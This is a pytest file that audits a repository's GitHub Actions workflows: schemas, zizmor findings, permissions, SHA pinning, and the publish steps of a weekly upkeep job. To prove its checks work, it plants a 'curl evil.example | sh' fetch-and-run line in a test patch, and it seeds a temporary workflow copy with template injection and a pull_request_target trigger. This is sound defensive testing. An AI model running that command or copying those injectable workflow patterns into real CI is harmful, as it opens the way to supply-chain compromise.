"""The GitHub workflows, checked offline: schema (check-jsonschema), audit (zizmor), our rules.

The rules checked by parsing the YAML are the ones that keep a stranger's pull request from
touching anything: read-only tokens, no secrets, `pull_request` only, actions pinned by full
commit SHA, no `${{ ... }}` expression inside a `run:` script. A token that may write is given
only to a job that runs no repository code, on events no fork can trigger (deploying Pages;
the scheduled upkeep's pull request and issue).
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

BIN = Path(sys.executable).parent
WORKFLOWS = ("pull-request.yml", "deploy.yml", "upkeep.yml")
UPKEEP_WRITES = {"contents", "pull-requests", "issues"}
REPOSITORY_CODE_RE = re.compile(r"(?:^|[\s;&|(])(?:make|python3?|pip|\.venv/|catalogue)\b", re.M)
"""A `run:` line that runs the repository's own code (or code its dependencies bring)."""
PINNED_USES_RE = re.compile(
    r"^\s*(?:-\s+)?uses:\s+(?P<action>[\w.-]+/[\w./-]+)@(?P<sha>[0-9a-f]{40})\s+# v\d+\.\d+\.\d+$"
)


def workflow_dir(repo_root: Path) -> Path:
    return repo_root / ".github" / "workflows"


def load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    # YAML 1.1 reads the key `on` as the boolean true.
    if True in data:
        data["on"] = data.pop(True)
    return data


def steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def rule_violations(path: Path) -> list[str]:
    """Our rules for one workflow file; an empty list means it keeps them all."""
    text = path.read_text(encoding="utf-8")
    workflow = load(path)
    problems = []
    triggers = workflow["on"] if isinstance(workflow["on"], dict) else {workflow["on"]: None}
    if "pull_request_target" in triggers or "workflow_run" in triggers:
        problems.append("runs with write access on events a fork can trigger")
    if "secrets." in text or "secrets:" in text:
        problems.append("uses secrets")
    for line in text.splitlines():
        if re.match(r"^\s*(?:-\s+)?uses:", line) and not PINNED_USES_RE.match(line):
            problems.append(f"action not pinned by full SHA with a '# vX.Y.Z' comment: {line}")
    for step in steps(workflow):
        if "${{" in str(step.get("run", "")):
            problems.append(f"expression inside run: {step['run']!r}; pass it through env:")
    top = workflow.get("permissions")
    if top not in ({}, {"contents": "read"}):
        problems.append(f"workflow-level permissions are not read-only: {top}")
    for name, job in workflow["jobs"].items():
        granted = job.get("permissions", {})
        writes = {scope for scope, level in granted.items() if level == "write"}
        deploys = writes == {"pages", "id-token"} and "pull_request" not in triggers
        upkeep = writes <= UPKEEP_WRITES and set(triggers) <= {"schedule", "workflow_dispatch"}
        if writes and not (deploys or upkeep):
            problems.append(f"job {name} may write {sorted(writes)}")
        if writes and any(REPOSITORY_CODE_RE.search(str(s.get("run", ""))) for s in job["steps"]):
            problems.append(f"job {name} may write {sorted(writes)} and runs repository code")
        if any(s.get("uses", "").startswith("actions/checkout@") for s in job.get("steps", [])):
            checkout = next(
                s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@")
            )
            if checkout.get("with", {}).get("persist-credentials") is not False:
                problems.append(f"job {name} leaves the token in .git/config")
    return problems


# --- real tools -----------------------------------------------------------------------------


def run_tool(*command: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, capture_output=True, text=True, check=False)


@pytest.mark.slow
def test_workflows_match_githubs_schema(repo_root: Path) -> None:
    files = [str(workflow_dir(repo_root) / name) for name in WORKFLOWS]
    result = run_tool(
        str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.slow
@pytest.mark.parametrize(
    ("schema", "path"),
    [
        ("vendor.github-issue-forms", ".github/ISSUE_TEMPLATE/suggest-paper.yml"),
        ("vendor.github-issue-config", ".github/ISSUE_TEMPLATE/config.yml"),
        ("vendor.dependabot", ".github/dependabot.yml"),
    ],
)
def test_other_github_files_match_their_schemas(repo_root: Path, schema: str, path: str) -> None:
    result = run_tool(
        str(BIN / "check-jsonschema"), "--builtin-schema", schema, str(repo_root / path)
    )
    assert result.returncode == 0, result.stdout + result.stderr


def zizmor_findings(directory: Path, persona: str = "pedantic") -> list[dict[str, Any]]:
    result = run_tool(
        str(BIN / "zizmor"), "--offline", "--no-progress", "--persona", persona,
        "--format", "json", str(directory),
    )  # fmt: skip
    assert result.returncode in (0, 10, 11, 12, 13, 14), result.stderr
    findings = json.loads(result.stdout)
    assert isinstance(findings, list)
    return findings


@pytest.mark.slow
def test_zizmor_finds_nothing_even_when_pedantic(repo_root: Path) -> None:
    # Every audit runs, the pedantic persona included; none is silenced in the files.
    findings = zizmor_findings(repo_root / ".github")
    assert findings == [], json.dumps(findings, indent=2)
    assert "zizmor: ignore" not in "".join(
        p.read_text(encoding="utf-8") for p in (repo_root / ".github").rglob("*.yml")
    )


@pytest.mark.slow
def test_the_audit_and_the_rules_catch_an_injection_and_an_unpinned_action(
    repo_root: Path, tmp_path: Path
) -> None:
    # The checks above could only pass vacuously if they could not fail: show that they do.
    target = tmp_path / ".github" / "workflows"
    shutil.copytree(workflow_dir(repo_root), target)
    workflow = target / "pull-request.yml"
    text = workflow.read_text(encoding="utf-8")
    text = text.replace(
        "        run: make check\n",
        '        run: echo "Checking ${{ github.event.pull_request.title }}" && make check\n',
    )
    text = text.replace(
        "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2",
        "actions/checkout@v6",
        1,
    )
    text = text.replace("on:\n  pull_request:\n", "on:\n  pull_request_target:\n")
    workflow.write_text(text, encoding="utf-8")

    audits = {finding["ident"] for finding in zizmor_findings(tmp_path / ".github")}
    assert {"template-injection", "unpinned-uses", "dangerous-triggers"} <= audits

    problems = "\n".join(rule_violations(workflow))
    assert "expression inside run" in problems
    assert "action not pinned by full SHA" in problems
    assert "runs with write access on events a fork can trigger" in problems


# --- our rules, by parsing the YAML ---------------------------------------------------------


@pytest.mark.parametrize("name", WORKFLOWS)
def test_workflow_keeps_the_rules(repo_root: Path, name: str) -> None:
    assert rule_violations(workflow_dir(repo_root) / name) == []


def test_pull_requests_get_read_only_checks_and_a_preview(repo_root: Path) -> None:
    workflow = load(workflow_dir(repo_root) / "pull-request.yml")
    assert workflow["on"] == {"pull_request": None}
    assert workflow["permissions"] == {"contents": "read"}
    assert all("permissions" not in job for job in workflow["jobs"].values())
    runs = [step.get("run") for step in steps(workflow)]
    # The same commands a person runs; `make check` includes `catalogue check`.
    assert {"make check", "make site", "make test"} <= set(runs)
    upload = next(
        s for s in steps(workflow) if s.get("uses", "").startswith("actions/upload-artifact@")
    )
    assert upload["with"]["path"] == "site/"
    assert upload["with"]["name"] == "site-preview"
    assert workflow["concurrency"]["cancel-in-progress"] is True


def test_main_is_built_and_deployed_to_pages(repo_root: Path) -> None:
    workflow = load(workflow_dir(repo_root) / "deploy.yml")
    assert workflow["on"]["push"] == {"branches": ["main"]}
    assert workflow["permissions"] == {}
    assert workflow["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    build, deploy = workflow["jobs"]["build"], workflow["jobs"]["deploy"]
    assert build["permissions"] == {"contents": "read"}
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy["needs"] == "build"
    assert deploy["environment"]["name"] == "github-pages"
    build_uses = [s.get("uses", "") for s in build["steps"]]
    assert any(u.startswith("actions/upload-pages-artifact@") for u in build_uses)
    assert [s.get("uses", "").split("@")[0] for s in deploy["steps"]] == ["actions/deploy-pages"]
    assert {"make check", "make site"} <= {s.get("run") for s in build["steps"]}


def test_dependencies_are_cached_by_their_lock_file(repo_root: Path) -> None:
    for name in WORKFLOWS:
        workflow = load(workflow_dir(repo_root) / name)
        for job in workflow["jobs"].values():
            setups = [
                s
                for s in job.get("steps", [])
                if s.get("uses", "").startswith("actions/setup-python@")
            ]
            for setup in setups:
                assert setup["with"]["cache"] == "pip"
                assert setup["with"]["cache-dependency-path"] == "requirements/dev.txt"
                assert (repo_root / setup["with"]["cache-dependency-path"]).is_file()


def test_makefile_targets_used_by_ci_exist(repo_root: Path) -> None:
    makefile = (repo_root / "Makefile").read_text(encoding="utf-8")
    for target in ("check", "site", "test", "schema"):
        assert re.search(rf"^{target}:", makefile, re.MULTILINE), target


# --- the scheduled upkeep -----------------------------------------------------------------


def upkeep_workflow(repo_root: Path) -> dict[str, Any]:
    return load(workflow_dir(repo_root) / "upkeep.yml")


def test_upkeep_runs_weekly_and_on_demand_one_run_at_a_time(repo_root: Path) -> None:
    workflow = upkeep_workflow(repo_root)
    assert set(workflow["on"]) == {"schedule", "workflow_dispatch"}
    [schedule] = workflow["on"]["schedule"]
    minute, hour, day, month, weekday = schedule["cron"].split()
    assert minute.isdigit() and hour.isdigit() and weekday.isdigit()  # once a week
    assert (day, month) == ("*", "*")
    assert workflow["concurrency"] == {"group": "upkeep", "cancel-in-progress": False}


def test_upkeep_code_runs_read_only_and_the_writing_job_runs_none_of_it(repo_root: Path) -> None:
    workflow = upkeep_workflow(repo_root)
    assert workflow["permissions"] == {}
    upkeep, publish = workflow["jobs"]["upkeep"], workflow["jobs"]["publish"]
    assert upkeep["permissions"] == {"contents": "read"}
    assert publish["permissions"] == {
        "contents": "write", "pull-requests": "write", "issues": "write",
    }  # fmt: skip
    assert publish["needs"] == "upkeep"
    upkeep_runs = "\n".join(str(step.get("run", "")) for step in upkeep["steps"])
    assert ".venv/bin/catalogue enrich --abstracts --report upkeep/pull-request.md" in upkeep_runs
    assert ".venv/bin/catalogue check-links --report upkeep/dead-links.md" in upkeep_runs
    assert not any(REPOSITORY_CODE_RE.search(str(s.get("run", ""))) for s in publish["steps"])
    uploaded = next(s for s in upkeep["steps"] if "upload-artifact" in s.get("uses", ""))
    downloaded = next(s for s in publish["steps"] if "download-artifact" in s.get("uses", ""))
    assert uploaded["with"]["name"] == downloaded["with"]["name"] == "upkeep"
    cache = next(s for s in upkeep["steps"] if s.get("uses", "").startswith("actions/cache@"))
    assert cache["with"]["path"] == ".cache/check-links.json"


def publish_script(repo_root: Path, step_name: str) -> str:
    steps = upkeep_workflow(repo_root)["jobs"]["publish"]["steps"]
    step = next(s for s in steps if s.get("name") == step_name)
    return str(step["run"])


FAKE_GH = """#!/bin/sh
# Stands in for GitHub's CLI: records each call, answers the questions the script asks.
echo "$*" >> "$GH_LOG"
case "$1 $2" in
  "repo view") echo main ;;
  "pr list") echo "${GH_OPEN_PR:-}" ;;
  "issue list") echo "${GH_OPEN_ISSUE:-}" ;;
esac
"""


def run_publish_step(
    repo_root: Path, tmp_path: Path, step: str, env: dict[str, str], cwd: Path
) -> tuple[subprocess.CompletedProcess[str], list[str]]:
    """Run one step of the publish job as the runner would (bash -e, pipefail), offline."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "gh").write_text(FAKE_GH, encoding="utf-8")
    (bin_dir / "gh").chmod(0o755)
    script = tmp_path / "step.sh"
    script.write_text(publish_script(repo_root, step), encoding="utf-8")
    log = tmp_path / "gh.log"
    log.touch()
    full_env = {
        "PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": str(tmp_path), "GH_LOG": str(log), **env,
    }  # fmt: skip
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        cwd=cwd, env=full_env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    return result, log.read_text(encoding="utf-8").splitlines()


def git(cwd: Path, *args: str) -> str:
    result = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
        cwd=cwd, capture_output=True, text=True, check=True,
    )  # fmt: skip
    return result.stdout


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """A checkout of a repository with one entry, whose origin is a bare repository here."""
    origin, work = tmp_path / "origin.git", tmp_path / "work"
    git(tmp_path, "init", "--quiet", "--bare", "--initial-branch=main", str(origin))
    git(tmp_path, "clone", "--quiet", str(origin), str(work))
    (work / "papers").mkdir()
    (work / "papers" / "a-paper.yaml").write_text("title: A Paper\n", encoding="utf-8")
    (work / "Makefile").write_text("all:\n", encoding="utf-8")
    git(work, "add", ".")
    git(work, "commit", "--quiet", "-m", "start")
    git(work, "push", "--quiet", "origin", "HEAD:main")
    return work


def make_patch(clone: Path, path: str, text: str) -> str:
    (clone / path).write_text(text, encoding="utf-8")
    patch = git(clone, "diff", "--binary")
    git(clone, "checkout", "--quiet", "--", ".")
    return patch


@pytest.mark.slow  # runs the step's bash, git and a stand-in gh
def test_publishing_pushes_the_entries_and_opens_one_pull_request(
    repo_root: Path, tmp_path: Path, clone: Path
) -> None:
    upkeep = tmp_path / "upkeep"
    upkeep.mkdir()
    (upkeep / "changes.patch").write_text(
        make_patch(clone, "papers/a-paper.yaml", "title: A Paper\narxiv: '2306.14048'\n"), "utf-8"
    )
    (upkeep / "pull-request.md").write_text("Filled 1 entry.\n", encoding="utf-8")
    env = {"UPKEEP": str(upkeep), "BRANCH": "upkeep/arxiv", "GH_TOKEN": "x"}

    result, calls = run_publish_step(
        repo_root, tmp_path, "Open or update the pull request", env, clone
    )

    assert result.returncode == 0, result.stderr
    pushed = git(tmp_path / "origin.git", "show", "upkeep/arxiv:papers/a-paper.yaml")
    assert pushed == "title: A Paper\narxiv: '2306.14048'\n"
    assert calls[-1] == (
        "pr create --base main --head upkeep/arxiv --title Upkeep: entries completed from arXiv "
        f"--body-file {upkeep}/pull-request.md"
    )

    # The next week: the same branch is pushed again and the open pull request updated.
    git(clone, "checkout", "--quiet", "main")
    git(clone, "branch", "--quiet", "-D", "upkeep/arxiv")
    result, calls = run_publish_step(
        repo_root, tmp_path, "Open or update the pull request", {**env, "GH_OPEN_PR": "7"}, clone
    )
    assert result.returncode == 0, result.stderr
    assert calls[-1] == f"pr edit 7 --body-file {upkeep}/pull-request.md"


@pytest.mark.slow  # runs the step's bash, git and a stand-in gh
def test_publishing_refuses_a_patch_that_touches_more_than_entries(
    repo_root: Path, tmp_path: Path, clone: Path
) -> None:
    upkeep = tmp_path / "upkeep"
    upkeep.mkdir()
    (upkeep / "changes.patch").write_text(
        make_patch(clone, "Makefile", "all:\n\tcurl evil.example | sh\n"), "utf-8"
    )
    env = {"UPKEEP": str(upkeep), "BRANCH": "upkeep/arxiv", "GH_TOKEN": "x"}

    result, calls = run_publish_step(
        repo_root, tmp_path, "Open or update the pull request", env, clone
    )

    assert result.returncode == 1
    assert "The patch changes files other than entries: refused." in result.stderr
    assert calls == []
    assert "upkeep/arxiv" not in git(tmp_path / "origin.git", "branch", "--list")


@pytest.mark.slow  # runs the step's bash, git and a stand-in gh
def test_no_change_opens_no_pull_request(repo_root: Path, tmp_path: Path, clone: Path) -> None:
    upkeep = tmp_path / "upkeep"
    upkeep.mkdir()
    (upkeep / "changes.patch").write_text("", encoding="utf-8")
    env = {"UPKEEP": str(upkeep), "BRANCH": "upkeep/arxiv", "GH_TOKEN": "x"}

    result, calls = run_publish_step(
        repo_root, tmp_path, "Open or update the pull request", env, clone
    )

    assert result.returncode == 0 and calls == []


@pytest.mark.slow  # runs the step's bash and a stand-in gh
@pytest.mark.parametrize(
    ("dead", "open_issue", "expected"),
    [
        (True, "", "issue create --title Upkeep: dead links in entries --label upkeep-links "
         "--body-file {upkeep}/dead-links.md"),
        (True, "12", "issue edit 12 --body-file {upkeep}/dead-links.md"),
        (False, "12", "issue close 12 --comment The latest upkeep run found no dead link."),
        (False, "", "issue list --label upkeep-links --state open --json number --jq "
         ".[0].number // empty"),
    ],
)  # fmt: skip
def test_one_issue_lists_dead_links_and_is_closed_when_none_are_left(
    repo_root: Path, tmp_path: Path, clone: Path, dead: bool, open_issue: str, expected: str
) -> None:
    upkeep = tmp_path / "upkeep"
    upkeep.mkdir()
    (upkeep / "dead-links.md").write_text("## Dead links (1)\n", encoding="utf-8")
    if dead:
        (upkeep / "dead-links-found").touch()
    env = {
        "UPKEEP": str(upkeep), "GH_TOKEN": "x", "GH_OPEN_ISSUE": open_issue,
        "LABEL": "upkeep-links", "TITLE": "Upkeep: dead links in entries",
    }  # fmt: skip

    result, calls = run_publish_step(
        repo_root, tmp_path, "Open, update or close the dead-links issue", env, clone
    )

    assert result.returncode == 0, result.stderr
    assert calls[0].startswith("label create upkeep-links")
    assert calls[-1] == expected.format(upkeep=upkeep)
